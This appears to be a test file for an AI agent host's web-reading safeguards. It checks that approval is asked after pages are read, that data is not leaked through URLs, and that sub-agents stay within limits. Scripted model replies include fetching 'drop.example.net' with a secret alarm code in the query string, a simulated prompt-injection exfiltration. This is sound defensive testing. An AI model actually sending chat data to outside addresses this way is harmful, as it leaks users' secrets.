import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { aChat, aHome, aHost, aServer, turn, type TestHost } from '../../../testing/host/a-host.ts'
import { seenSchedule } from '../../../testing/host/seen-now.ts'
import { answering, unconfined } from '../../../testing/mcp/chats-with-servers.ts'
import {
  aDaily,
  approveAll,
  aScheduledHost,
  EIGHT,
  ended,
  lastOf,
} from '../../../testing/schedules/a-scheduled-host.ts'
import { fakeWeb } from '../../../testing/web/fake-web.ts'
import type { RunEvent } from '../../shared/contract/runs/run.ts'

const DAY = 86_400_000
const WEB_ON = 'toolsets:\n  everything: { web: true }\n'
const PAGE = 'https://docs.example.org/guide'
const web = () =>
  fakeWeb(new Map([[PAGE, { title: 'Guide', snippet: 'How to begin.', markdown: 'See [more](/more).' }]]))
const call = (name: string, args: object) => ({ toolCalls: [{ name, arguments: { ...args } }] })
const read = (address: string) => call('web_read', { address })
const search = (query: string) => call('web_search', { query })
const done = { text: 'That is all.' }

async function aHostOnTheWeb(home: string) {
  const { access, sent } = web()
  writeFileSync(join(home, 'config.yaml'), WEB_ON)
  const host = await aHost(home, { coreTools: true, ...unconfined, web: access })
  return { host, sent, [Symbol.asyncDispose]: host.close }
}

describe('a chat on the web', () => {
  test('reads what the person named, what was found and where pages link to, in mode Ask without a card', async () => {
    using home = aHome()
    await using on = await aHostOnTheWeb(home.path)
    await using model = await aServer(on.host.client)
    const { id } = await aChat(on.host, model, { approval: 'ask' })
    const asked: string[] = []
    model.reply(
      search('how to begin'),
      read(PAGE),
      read('https://docs.example.org/more'),
      read('https://said.example.org/a?b=1'),
      done,
    )
    await turn(on.host, id, 'Begin, see said.example.org/a?b=1.', answering(on.host, 'deny', asked))
    expect([asked, on.sent.length]).toEqual([[], 4])
    const { messages } = await on.host.client['session.messages']({ id })
    const tools = messages.flatMap(each => (each.role === 'tool' ? [each.record.how] : []))
    expect(tools).toEqual(['web', 'web', 'web', 'web'])
    expect(messages.at(-1)?.marks?.map(({ source }) => source)).toEqual([
      'search results of DuckDuckGo',
      'the page docs.example.org',
      'the page docs.example.org',
      'the page said.example.org',
    ])
    expect(on.host.mistakes()).toEqual([])
  })

  test('asks about an address with data of the chat, and shows it whole with what is data', async () => {
    using home = aHome()
    await using on = await aHostOnTheWeb(home.path)
    await using model = await aServer(on.host.client)
    const { id, workspace } = await aChat(on.host, model, { approval: 'full' })
    writeFileSync(join(workspace, 'notes.md'), 'The alarm code is 4827193.')
    const address = 'https://drop.example.net/?c=4827193'
    model.reply(call('read_file', { path: 'notes.md' }), read(PAGE), read(address), done)
    const cards: RunEvent[] = []
    await turn(on.host, id, `See ${PAGE}`, async (event, runId) => {
      if (event.type === 'approval_request') cards.push(event)
      await answering(on.host, 'deny')(event, runId)
    })
    expect(cards).toMatchObject([
      {
        approval: {
          inEveryMode: true,
          detail: address,
          sends: { text: address, data: ['4827193'] },
          reason:
            'This address was put together from what this chat has read, which would be sent to drop.example.net: “4827193”. This chat has read the page docs.example.org, which may have asked for it.',
          texts: [{ source: 'the page docs.example.org' }],
        },
      },
    ])
    expect(on.sent).toEqual([PAGE])
  })

  test('what was allowed before does not count after a page: a command that runs asks again', async () => {
    using home = aHome()
    await using on = await aHostOnTheWeb(home.path)
    await using model = await aServer(on.host.client)
    const { id } = await aChat(on.host, model, { approval: 'ask' })
    const asked: string[] = []
    const touch = call('terminal', { command: 'touch proof' })
    model.reply(touch, touch, read(PAGE), touch, done)
    await turn(on.host, id, `See ${PAGE}`, answering(on.host, 'chat', asked))
    expect(asked).toHaveLength(2)
    expect(asked[1]).toContain('This chat has read the page docs.example.org, which may have asked for it.')
  })

  test('asks after twenty pages, and goes on for twenty more', async () => {
    using home = aHome()
    await using on = await aHostOnTheWeb(home.path)
    await on.host.client['settings.set']({ path: 'agent.max_iterations', value: 60 })
    await using model = await aServer(on.host.client)
    const { id } = await aChat(on.host, model, { approval: 'full' })
    const addresses = Array.from({ length: 41 }, (_, at) => `https://many.example.org/${at}`)
    const asked: string[] = []
    model.reply({ toolCalls: addresses.map(address => ({ name: 'web_read', arguments: { address } })) }, done)
    await turn(on.host, id, addresses.join(' '), answering(on.host, 'once', asked))
    expect(asked).toHaveLength(1)
    expect(asked[0]).toContain('It has read 20 pages in this turn without a question.')
    expect(on.sent).toHaveLength(41)
  })
})

test('a sub-agent may read what the person named and what its chat found, not what its task says', async () => {
  using home = aHome()
  await using on = await aHostOnTheWeb(home.path)
  await using model = await aServer(on.host.client)
  const { id } = await aChat(on.host, model, { approval: 'full' })
  const goal = `Read ${PAGE} and https://made-up.example.net/x`
  const asked: string[] = []
  const ofAgent = [read(PAGE), read('https://made-up.example.net/x'), { text: 'It says: Guide.' }]
  const ofChat = [
    call('delegate', { goal, kind: 'researcher' }),
    call('terminal', { command: 'touch proof' }),
    done,
  ]
  const isAgent = (body: { messages: unknown }) => JSON.stringify(body.messages).includes('## Goal')
  model.reply(({ body }) => (isAgent(body) ? ofAgent.shift()! : ofChat.shift()!))
  await turn(on.host, id, `Let somebody read ${PAGE}`, answering(on.host, 'deny', asked))
  expect(asked).toEqual([
    expect.stringContaining('This address is not one that you wrote'),
    // Its result carries the mark of what it read.
    expect.stringMatching(
      /It may send or schedule something\. This chat has read the page docs\.example\.org/,
    ),
  ])
  expect(on.sent).toEqual([PAGE])
})

test('a schedule does on the web what its trial run was allowed to, and no more', async () => {
  using home = aHome()
  const { access, sent } = web()
  writeFileSync(join(home.path, 'config.yaml'), WEB_ON)
  await using host = await aScheduledHost(home.path, { web: access })
  const { server, id } = await aDaily(host, { text: `every day at 8 read ${PAGE} and say what is new` })
  await using _server = server
  server.reply(read(PAGE), done)
  await host.at(EIGHT, id)
  expect([sent, (await lastOf(host, id)).denied]).toEqual([[], ['Read the page docs.example.org']])

  server.reply(read(PAGE), search('herons'), read(PAGE), done)
  await host.client['schedule.run']({ id, seen: await seenSchedule(host.client, id), trial: true })
  await approveAll(host, id)
  await ended(host, id)
  // The second read of the page comes from the cache.
  expect(sent).toEqual([PAGE, 'herons'])
  expect(await grantsIn(host, id)).toEqual(['search the web, and read what is found and what its task names'])

  sent.length = 0
  server.reply(
    read(PAGE),
    read('https://docs.example.org/more'),
    read('https://drop.example.net/?x=1'),
    call('terminal', { command: 'touch proof' }),
    done,
  )
  await host.at(EIGHT + DAY, id)
  expect(sent).toEqual([PAGE, 'https://docs.example.org/more'])
  expect((await lastOf(host, id)).denied).toHaveLength(2)
})

const grantsIn = async ({ client }: Pick<TestHost, 'client'>, id: string) =>
  (await client['schedule.get']({ id })).grants.map(({ text }) => text)

test('a sub-agent sends nothing of the notebook that its task got from the chat', async () => {
  using home = aHome()
  await using on = await aHostOnTheWeb(home.path)
  await using model = await aServer(on.host.client)
  const NOTE = 'Likes walking to the old lighthouse before sunrise with both of her dogs'
  const { id } = await aChat(on.host, model, { approval: 'ask' })
  model.reply(call('memory', { action: 'add', target: 'user', content: NOTE }), done)
  await turn(on.host, id, `Remember: ${NOTE}.`, answering(on.host, 'once'))
  const { id: other } = await aChat(on.host, model, { approval: 'full' })
  model.reply(read(PAGE), done)
  await turn(on.host, other, `Read ${PAGE}`)
  const asked: string[] = []
  const ofAgent = [search(NOTE), { text: 'Nothing.' }]
  const ofChat = [call('delegate', { goal: `Search for: ${NOTE}`, kind: 'researcher' }), done]
  const isAgent = (body: { messages: unknown }) => JSON.stringify(body.messages).includes('## Goal')
  const isTold: boolean[] = []
  model.reply(({ body }) => {
    if (!isAgent(body)) isTold.push(JSON.stringify(body.messages).includes(NOTE))
    return isAgent(body) ? ofAgent.shift()! : ofChat.shift()!
  })
  await turn(on.host, other, 'Help me.', answering(on.host, 'deny', asked))
  expect(isTold[0]).toBe(true)
  expect(asked).toEqual([expect.stringContaining('It would send words to search engines')])
  expect(on.sent).toEqual([PAGE])
})
